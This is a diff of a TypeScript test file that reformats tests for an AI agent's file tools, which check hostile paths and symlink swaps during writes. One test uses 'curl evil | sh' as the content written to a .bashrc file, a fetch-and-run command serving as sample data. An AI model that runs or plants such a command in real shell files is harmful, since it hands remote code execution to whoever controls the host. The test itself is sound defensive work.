@@ -38,7 +38,15 @@ const tools: Record<string, AnyAgentTool> = {
   grepJs: createGrepTool({ projectDir: dir, engine: "javascript" }),
 };
 const argsFor = (tool: string, target: string): unknown =>
-  tool === "edit" ? { path: target, edits: [{ oldText: "zzz", newText: "y" }] } : tool === "write" ? { path: target, content: "w" } : tool.startsWith("grep") ? { pattern: "SECRET", path: target } : tool === "find" ? { path: target, pattern: "*" } : { path: target };
+  tool === "edit"
+    ? { path: target, edits: [{ oldText: "zzz", newText: "y" }] }
+    : tool === "write"
+      ? { path: target, content: "w" }
+      : tool.startsWith("grep")
+        ? { pattern: "SECRET", path: target }
+        : tool === "find"
+          ? { path: target, pattern: "*" }
+          : { path: target };
 
 describeWhen(needsLinux(), "hostile paths against every file tool", () => {
   it("a FIFO, a symlink loop, /dev/zero (directly and through a link) and a 10,000-character path get clear errors", async () => {
@@ -122,7 +130,9 @@ describe("a link swapped in while a write or an edit runs", () => {
     const write = createWriteTool({ projectDir: dir, pool: swappingPool(at("w-sub")) });
     const run = await runTool(write, { path: "w-sub/.bashrc", content: "curl evil | sh\n" });
     expect(run.isError).toBe(true);
-    expect(run.text).toBe(`w-sub/.bashrc now leads to ${path.join(outside.dir, ".bashrc")}, not where it led when this call began (a folder or link on the way was replaced while it ran); nothing was written.`);
+    expect(run.text).toBe(
+      `w-sub/.bashrc now leads to ${path.join(outside.dir, ".bashrc")}, not where it led when this call began (a folder or link on the way was replaced while it ran); nothing was written.`,
+    );
     expect(readFileSync(path.join(outside.dir, ".bashrc"), "utf8")).toBe("original\n");
   });
 
